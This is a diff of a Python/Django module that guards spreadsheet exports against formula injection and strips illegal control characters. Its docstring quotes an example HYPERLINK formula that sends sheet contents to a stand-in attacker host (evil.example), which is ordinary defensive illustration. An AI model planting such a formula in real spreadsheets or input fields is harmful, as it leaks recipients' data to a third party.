@@ -1,19 +1,72 @@
-"""What every spreadsheet export does to a cell before writing it (CSV and XLSX)."""
+"""One neutraliser for every cell written to a spreadsheet (CSV or XLSX) we hand out.
 
-from typing import TypeVar
+Two dangers, one function, in this order:
+
+1. Control characters. XLSX cannot hold C0 control characters other than tab, newline and
+   carriage return (openpyxl raises ``IllegalCharacterError``, and a whole export fails for
+   one bad name); they are removed.
+2. Formula injection. A cell whose text starts with ``= + - @`` (or a tab or carriage return
+   before one, or their full-width forms) is run as a formula by Excel and LibreOffice:
+   ``=HYPERLINK("http://evil.example/?"&A2,"Click")`` leaks the sheet. Such text gets a
+   leading apostrophe, which spreadsheet programs show as text (OWASP "CSV Injection").
+
+Cleaning comes first on purpose: ``"\\x01=HYPERLINK(...)"`` must not turn into a formula
+once the control character is gone. Every export calls :func:`neutralise_cell` (or
+:func:`neutralise_row`) last, on the value as it will be written.
+"""
+
+import re
+from collections.abc import Iterable
+from typing import Any, TypeVar
+
+from django.utils.safestring import mark_safe
+from import_export import resources
+
+# openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE, plus DEL: what XML 1.0 refuses or shows as junk.
+CONTROL_CHARACTERS_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+FORMULA_TRIGGERS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
+LEADING_BLANKS = " \t\r\n\u00a0\u3000"
 
 T = TypeVar("T")
 
-# A cell starting with one of these may run as a formula in Excel or LibreOffice.
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
 
 def neutralise_cell(value: T) -> T | str:
-    """Text typed by a partner never runs as a spreadsheet formula (CSV/XLSX injection).
+    """The value safe to write as one spreadsheet cell; numbers, dates and None unchanged."""
+    if not isinstance(value, str):
+        return value
+    cleaned = CONTROL_CHARACTERS_RE.sub("", value)
+    starts_with = cleaned.lstrip(LEADING_BLANKS)[:1]
+    if starts_with in FORMULA_TRIGGERS or cleaned[:1] in ("\t", "\r"):
+        return "'" + cleaned
+    return cleaned
 
-    Such text gets a leading apostrophe, which spreadsheets show as plain text; any other
-    value (a number, a date, None) is returned as it is.
-    """
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
-        return "'" + value
-    return value
+
+def neutralise_row(values: Iterable[Any]) -> list[Any]:
+    return [neutralise_cell(value) for value in values]
+
+
+class StyleFreeDiff(resources.Diff):
+    """The import preview's field diff without diff-match-patch's inline style="" (which the
+    Content-Security-Policy blocks); the colours are in site/admin.css."""
+
+    def as_html(self):
+        return [
+            mark_safe(  # noqa: S308 - diff_prettyHtml escaped the values; only tags change
+                str(html)
+                .replace('<ins style="background:#e6ffe6;">', '<ins class="import-diff">')
+                .replace('<del style="background:#ffe6e6;">', '<del class="import-diff">')
+            )
+            for html in super().as_html()
+        ]
+
+
+class NeutralisedExportResource(resources.ModelResource):
+    """A django-import-export resource whose every exported cell is neutralised (CSV, XLSX,
+    and any other format the admin offers), after fields and dehydrate methods ran; its
+    import preview is free of inline styles."""
+
+    def export_field(self, field, instance, **kwargs):
+        return neutralise_cell(super().export_field(field, instance, **kwargs))
+
+    def get_diff_class(self):
+        return StyleFreeDiff
